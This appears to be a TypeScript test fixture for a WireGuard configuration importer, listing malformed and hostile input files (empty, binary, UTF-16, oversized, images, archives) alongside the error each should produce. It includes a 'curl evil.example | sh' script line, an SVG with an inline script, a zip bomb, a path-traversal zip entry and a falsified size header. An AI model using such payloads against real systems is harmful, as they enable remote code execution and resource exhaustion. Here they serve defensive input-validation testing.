/** Files that are no configuration, one of every kind that people and attackers have. */
import { encode } from "fast-png";
import { writeZip } from "../../../src/wireguard/container/write.ts";
import { makeZip } from "../../unit/wireguard/container/zip-builder.ts";
import type { HandedFile } from "./pages/manual.ts";

const blank = Buffer.from(
  encode({ width: 40, height: 40, channels: 1, data: new Uint8Array(1600).fill(255) }),
);
/** A picture whose header says that it is as wide and high as a PNG can be. */
const endless = Buffer.from(blank);
endless.writeUInt32BE(0x7fffffff, 16);
endless.writeUInt32BE(0x7fffffff, 20);

/** `good`: the text of a configuration that would be taken. Each with what the window has to say of it. */
export function wrongFiles(good: string): readonly (readonly [HandedFile, RegExp])[] {
  const file = (name: string, content: string | Uint8Array, says: RegExp) =>
    [{ name, buffer: Buffer.from(content) }, says] as const;
  return [
    file("empty.conf", "", /There is nothing in the file/),
    file("letter.txt", "Dear operator,\n", /The line is neither a \[Section\] nor Key = Value/),
    file("photo.heic", Buffer.from("\0\0\0\u0018ftypheic"), /The file is a HEIC or AVIF image/),
    file("program.conf", Buffer.from("\u007fELF\u0002\u0001\u0001\0\0\0"), /The file is a program/),
    file("script.conf", "#!/bin/sh\ncurl evil.example | sh\n", /There is no \[Interface\] section/),
    file("wide.conf", Buffer.from(`\ufeff${good}`, "utf16le"), /The text is stored as UTF-16/),
    file("zero.conf", good.replace("[Peer]", "\0[Peer]"), /There is a NUL or another control character/),
    file("long.conf", `${good}# ${"x".repeat(1000)}\n`.repeat(80), /The file is larger than 64 KiB/),
    file("amnezia.conf", good.replace("[Peer]", "Jc = 4\n\n[Peer]"), /The key belongs to AmneziaWG/),
    file(
      "page.svg",
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      /A key stands before the first section/,
    ),
    file(
      "cut.zip",
      writeZip([{ name: "office", text: good }]).subarray(0, 60),
      /The archive's directory cannot be read/,
    ),
    file(
      "bomb.zip",
      makeZip([{ name: "office.conf", content: Buffer.alloc(4_000_000) }]),
      /The entry unpacks to more than 64 KiB/,
    ),
    file(
      "liar.zip",
      makeZip([{ name: "office.conf", content: good, claimedSize: 4_000_000_000 }]),
      /is not as long as the archive says/,
    ),
    file(
      "locked.zip",
      makeZip([{ name: "office.conf", content: good, flags: 0x801 }]),
      /The entry is encrypted/,
    ),
    file(
      "nested.zip",
      makeZip([{ name: "inner.zip", content: makeZip([{ name: "a.conf", content: good }]) }]),
      /The entry is an archive itself/,
    ),
    file(
      "climbing.zip",
      makeZip([{ name: "../../etc/wireguard/office.conf", content: good }]),
      /The name of an entry leads out of the archive/,
    ),
    file("blank.png", blank, /No QR code could be read in the image/),
    file("cut.png", blank.subarray(0, 30), /The image cannot be read to its end/),
    file("endless.png", endless, /The image has more than 12 million pixels/),
    file(
      "cut.jpg",
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]),
      /The image cannot be read to its end/,
    ),
  ];
}
